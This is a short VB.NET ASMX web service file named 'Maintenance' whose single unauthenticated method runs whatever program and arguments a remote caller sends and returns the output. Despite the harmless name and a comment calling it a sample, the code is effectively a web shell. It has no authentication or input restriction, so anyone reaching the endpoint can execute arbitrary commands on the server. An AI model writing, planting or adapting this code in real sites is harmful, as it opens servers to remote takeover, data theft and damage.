<%@ WebService Language="VB" Class="Maintenance" %>
Imports System.Web.Services
Imports System.Diagnostics

' Sample: a VB.NET service method that starts the program and arguments its caller sends.
Public Class Maintenance
    Inherits WebService

    <WebMethod(EnableSession:=False)> _
    Public Function Job(ByVal tool As String, ByVal args As String) As String
        Dim info As New ProcessStartInfo(tool)
        info.Arguments = args
        info.UseShellExecute = False
        info.RedirectStandardOutput = True
        Dim p As Process = Process.Start(info)
        Return p.StandardOutput.ReadToEnd()
    End Function
End Class
